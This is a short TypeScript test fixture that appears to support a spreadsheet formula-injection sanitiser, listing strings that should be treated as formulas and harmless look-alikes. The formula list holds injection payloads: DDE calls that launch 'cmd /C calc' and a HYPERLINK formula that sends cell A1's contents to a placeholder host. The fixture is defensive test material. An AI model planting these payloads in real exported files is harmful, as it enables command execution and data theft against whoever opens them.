const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const tails = ["cmd|' /C calc'!A0", 'HYPERLINK("http://x/?"&A1,"看")', '1+1', 'SUM(1,2)*cmd'];
const blanks = ['\t', '\r', ' ', '\n', '\u00A0', '\u3000', '\uFEFF', ' \t '];

/** Texts that a spreadsheet would run (reliability S21). */
export const formulas: readonly string[] = [
  ...starts.flatMap((start) => tails.map((tail) => `${start}${tail}`)),
  ...blanks.map((blank) => `${blank}=1+1`),
  '\tDDE("cmd";"/C calc")',
  '\r中文',
  '-',
  '=',
];

/** Texts that look a little like it and stay as they are. */
export const harmless: readonly string[] = [
  '',
  'A=1',
  '中文',
  '1-1',
  "'=1",
  '（-5）',
  '🎽',
  '~=',
  '#REF!',
  '|cmd',
  '%0A=1',
  ' 空格',
  '"=1"',
];
